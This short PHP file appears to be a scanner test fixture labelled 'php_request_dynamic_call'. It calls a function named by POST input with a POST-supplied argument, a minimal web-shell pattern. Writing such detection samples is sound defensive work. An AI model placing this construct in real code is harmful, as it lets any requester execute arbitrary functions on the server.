<?php
// want: php_request_dynamic_call
$a = $_POST;
$a['f']($a['x']);
